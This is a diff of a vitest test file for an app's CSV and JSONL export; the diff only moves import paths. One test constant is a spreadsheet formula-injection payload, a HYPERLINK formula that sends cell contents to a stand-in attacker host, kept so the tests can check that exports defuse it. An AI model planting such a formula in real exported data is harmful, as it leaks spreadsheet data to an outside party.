@@ -1,12 +1,12 @@
 // Attack: text from imported data (a model id, a run name, a chart label) written into a CSV must
 // open as text, never as a live formula; JSONL lines must stay one line for every line reader.
 import { describe, expect, it } from 'vitest';
-import { chartCsv } from '../../src/app/chart-csv.ts';
-import { compareRuns } from '../../src/core/experiments/compare-runs.ts';
+import { chartCsv } from '../../src/app/charts/chart-csv.ts';
+import { compareRuns } from '../../src/analysis/compare-runs.ts';
 import { comparisonCsv } from '../../src/formats/export/comparison-csv.ts';
 import { jsonLine, parseJsonLines, toJsonLines } from '../../src/formats/export/files.ts';
 import { csvField } from '../../src/formats/export/tabular-export.ts';
-import { meta, run } from '../core/experiments/compared-runs.ts';
+import { meta, run } from '../analysis/compared-runs.ts';
 
 const FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"click")';
 // Every character a line reader may split on (Python's str.splitlines() splits on \n, \r, \v, \f, U+001C-U+001E, U+0085, U+2028 and U+2029).
